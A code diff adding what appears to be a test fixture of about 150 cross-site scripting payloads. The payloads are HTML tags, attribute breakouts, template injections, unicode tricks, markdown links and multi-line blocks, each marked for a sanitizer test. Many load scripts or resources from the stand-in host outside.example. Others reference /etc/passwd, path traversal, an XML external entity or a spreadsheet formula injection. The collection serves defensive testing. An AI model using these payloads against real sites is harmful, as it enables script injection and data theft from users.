@@ -1,0 +1,201 @@
+/// What somebody might write to have a script of theirs run in a reader's browser. Each calls `tripwire` or
+/// asks the host `outside.example` for something if it comes alive. None is longer than a title may be.
+
+const tags = [
+  "<script>tripwire()</script>",
+  "<SCRIPT SRC=//outside.example/a.js></SCRIPT>",
+  "<script/x>tripwire()</script/y>",
+  "<scr<script>ipt>tripwire()</scr</script>ipt>",
+  "</title></textarea></style></noscript></script><script>tripwire()</script>",
+  "<<script>tripwire();//<</script>",
+  "<script>tripwire()<!--",
+  "<img src=x onerror=tripwire()>",
+  "<img src=//outside.example/a.png>",
+  "<img/src/onerror=tripwire()>",
+  '<img src="x` `<script>tripwire()</script>"` `>',
+  '<IMG """><SCRIPT>tripwire()</SCRIPT>">',
+  "<img srcset='//outside.example/b.png 1x'>",
+  "<svg onload=tripwire()>",
+  "<svg><script>tripwire()</script></svg>",
+  "<svg><animate onbegin=tripwire() attributeName=x dur=1s>",
+  "<svg><a xlink:href='javascript:tripwire()'><text x=9 y=9>x</text></a></svg>",
+  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=tripwire() /></svg>#x'>",
+  "<svg><foreignObject><iframe srcdoc='<script>parent.tripwire()</script>'></iframe></foreignObject></svg>",
+  "<svg><style><img src=x onerror=tripwire()></style></svg>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=tripwire()>",
+  "<math href='javascript:tripwire()'>x</math>",
+  "<iframe src='javascript:parent.tripwire()'></iframe>",
+  "<iframe srcdoc='&lt;script&gt;parent.tripwire()&lt;/script&gt;'></iframe>",
+  "<object data='data:text/html,<script>parent.tripwire()</script>'></object>",
+  "<embed src=//outside.example/a.swf>",
+  "<base href=//outside.example/>",
+  "<meta http-equiv=refresh content='0;url=//outside.example/'>",
+  "<link rel=stylesheet href=//outside.example/a.css>",
+  "<link rel=preload as=script href=//outside.example/b.js>",
+  "<form action=//outside.example/><button autofocus>x</button></form>",
+  "<form id=test></form><button form=test formaction=javascript:tripwire()>x",
+  "<isindex action=javascript:tripwire() type=submit>",
+  "<video><source onerror=tripwire()></video>",
+  "<video poster=//outside.example/c.png>",
+  "<audio src=x onerror=tripwire()>",
+  "<body onload=tripwire()>",
+  "<details open ontoggle=tripwire()>x</details>",
+  "<input autofocus onfocus=tripwire()>",
+  "<select autofocus onfocus=tripwire()>",
+  "<marquee onstart=tripwire()>x</marquee>",
+  "<x onpointerenter=tripwire() onmouseover=tripwire() style='position:fixed;inset:0'>x",
+  "<x contenteditable autofocus tabindex=1 onfocus=tripwire()>x",
+  "<template><script>tripwire()</script></template>",
+  "<dialog open onclose=tripwire()><form method=dialog><button autofocus>x",
+  "<style>@import '//outside.example/d.css';</style>",
+  "<style>*{background:url(//outside.example/e.png)}</style>",
+  "<div style='background:url(//outside.example/f.png)'>x</div>",
+  '<div style="width:expression(tripwire());behavior:url(#x)">x</div>',
+  "<noscript><p title='</noscript><img src=x onerror=tripwire()>'>",
+  "<a href='javascript:tripwire()' autofocus>x</a>",
+  '<a href="jav&#x09;ascript:tripwire()">x</a>',
+  "<a href='data:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgpPC9zY3JpcHQ+'>x</a>",
+  "<portal src=//outside.example/g></portal>",
+  "<!--><img src=x onerror=tripwire()>-->",
+  "<!-- --!><img src=x onerror=tripwire()> -->",
+  "<![CDATA[><img src=x onerror=tripwire()>]]>",
+  "<?xml-stylesheet href='javascript:tripwire()'?>",
+  "<!DOCTYPE x [<!ENTITY y SYSTEM '//outside.example/h'>]>&y;",
+]
+
+const attributes = [
+  '" onmouseover="tripwire()" x="',
+  "' onmouseover='tripwire()' x='",
+  '"><img src=x onerror=tripwire()>',
+  "'><img src=x onerror=tripwire()>",
+  "` onmouseover=tripwire() `",
+  '" autofocus onfocus=tripwire() "',
+  'x" style="background:url(//outside.example/i.png)" "',
+  "&quot;&gt;&lt;img src=x onerror=tripwire()&gt;",
+  "&lt;script&gt;tripwire()&lt;/script&gt;",
+  "&#60;img src=x onerror=tripwire()&#62;",
+  "&amp;lt;script&amp;gt;tripwire()&amp;lt;/script&amp;gt;",
+]
+
+const scripts = [
+  "</script><script>tripwire()</script>",
+  "';tripwire();//",
+  '";tripwire();//',
+  "\\';tripwire();//",
+  "${tripwire()}",
+  "`${tripwire()}`",
+  "{{constructor.constructor('tripwire()')()}}",
+  "{tripwire()}",
+  "{@html '<img src=x onerror=tripwire()>'}",
+  "<%= tripwire() %> #{tripwire()} [[${tripwire()}]]",
+  "javascript:tripwire()",
+  "\u2028tripwire()\u2029//",
+  "]]><script>tripwire()</script>",
+  "*/tripwire()/*",
+]
+
+const unicode = [
+  "\uff1cscript\uff1etripwire()\uff1c/script\uff1e",
+  "\u202e<img src=x onerror=tripwire()>",
+  "<\u200bscript>tripwire()</script>",
+  "<img src=x one\u017fror=tripwire() onerror\u00a0=tripwire()>",
+  "<\u017fcript>tripwire()</\u017fcript>",
+  "\u212a<script>tripwire()</script>",
+  "\u2039script\u203atripwire()\u2039/script\u203a",
+  "<\u0131frame src=javascript:tripwire()>",
+  "+ADw-script+AD4-tripwire()+ADw-/script+AD4-",
+]
+
+const names = [
+  "a<img src=x onerror=tripwire()>.md",
+  "../../<svg onload=tripwire()>.zip",
+  "x.html;filename=y.svg",
+  '=HYPERLINK("javascript:tripwire()")',
+]
+
+const links = [
+  "[x](javascript:tripwire())",
+  "[x](JaVaScRiPt:tripwire())",
+  "[x](javascript&colon;tripwire())",
+  "[x](&#106;avascript:tripwire())",
+  "[x](&#x6A;&#x61;vascript&#58;tripwire())",
+  "[x](java&NewLine;script:tripwire())",
+  "[x](java&Tab;script:tripwire())",
+  "[x](<java\tscript:tripwire()>)",
+  "[x](\\javascript:tripwire())",
+  "[x](&#1;javascript:tripwire())",
+  "[x](&nbsp;javascript:tripwire())",
+  "[x](vbscript:tripwire())",
+  "[x](data:text/html,<script>tripwire()</script>)",
+  "[x](DATA:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgpPC9zY3JpcHQ+)",
+  "[x](blob:tripwire) [x](filesystem:x) [x](view-source:x) [x](file:///etc/passwd)",
+  "[x](x:javascript:tripwire())",
+  '[x](/ "onmouseover=tripwire() \\" onfocus=\\"tripwire()")',
+  '[x](/"onmouseover="tripwire\\(\\)")',
+  "[x](/'><img src=x onerror=tripwire()>)",
+  "[<img src=x onerror=tripwire()>](/)",
+  "[x](//outside.example/k)",
+  "![x](javascript:tripwire())",
+  "![x](//outside.example/l.png)",
+  "![x](https://outside.example/m.png)",
+  "![x](/\\outside.example/n.png)",
+  "![x](\\\\outside.example/o.png)",
+  "![x](/&#92;outside.example/p.png)",
+  "![x](/&#9;/outside.example/q.png)",
+  "![x](&#47;/outside.example/r.png)",
+  "![x](<//outside.example/s.png>)",
+  '![x"onerror="tripwire()](/mark.svg)',
+  '![<img src=x onerror="tripwire()">](/mark.svg)',
+  "![x](data:image/svg+xml,<svg onload=tripwire()>)",
+  "[![x](https://outside.example/t.png)](javascript:tripwire())",
+  "<javascript:tripwire()>",
+  '<https://example.org/"onmouseover="tripwire()>',
+  '<a@b.c"onmouseover=tripwire()>',
+  'https://example.org/"onmouseover="tripwire()',
+  "www.example.org/<script>tripwire()</script>",
+  "`<img src=x onerror=tripwire()>`",
+  "**<b onclick=tripwire()>x**",
+  "~~<svg/onload=tripwire()>~~",
+  "\\<script\\>tripwire()\\</script\\>",
+]
+
+/// What goes over several lines.
+export const blocks = [
+  "[a]: javascript:tripwire()\n[x][a] [a] ![x][a]",
+  "[b]: <data:text/html,<script>tripwire()</script>> 'onmouseover=tripwire()'\n[x][b]",
+  "[c]:\n  java\n  script:tripwire()\n\n[x][c]",
+  '```html" onmouseover="tripwire()\n<script>tripwire()</script>\n```',
+  "~~~ <img src=x onerror=tripwire()>\n</code></pre><script>tripwire()</script>\n~~~",
+  "    </code></pre><script>tripwire()</script>",
+  '| <script>tripwire()</script> | a |\n|:-"onmouseover=tripwire()|---|\n| <img src=x onerror=tripwire()> | [x](javascript:tripwire()) |',
+  "> <svg onload=tripwire()>\n> - [ ] <img src=x onerror=tripwire()>",
+  "# <img src=x onerror=tripwire()>\n\nx\n<script>tripwire()</script>\n===",
+  "<script\nsrc=//outside.example/u.js\n></script>",
+  "<div\nonmouseover\n=\ntripwire()>x</div>",
+  "1. <style>@import '//outside.example/v.css'</style>\n2. </ol><script>tripwire()</script>",
+  "<!--\n--><script>tripwire()</script>",
+  '---\ntitle: "<script>tripwire()</script>"\n---',
+  "[^1]: <img src=x onerror=tripwire()>\n\nx[^1]",
+]
+
+/// One line each, in which no field of one line finds anything to refuse.
+export const lines: readonly string[] = [
+  ...tags,
+  ...attributes,
+  ...scripts,
+  ...unicode,
+  ...names,
+  ...links,
+].map((line) => line.replaceAll("\t", " "))
+
+/// A word that nothing but the vector with this number is marked with.
+export function markOf(index: number): string {
+  return `zq${index}qz`
+}
+
+/// All lines with their marks, and from where the marks of the blocks count on.
+export const markedLines = lines.map((line, index) => `${line} ${markOf(index)}`)
+export const markedBlocks = [...lines, ...blocks].map(
+  (text, index) => `${text}\n\n${markOf(index)}`,
+)
+export const allBlocks = markedBlocks.join("\n\n")
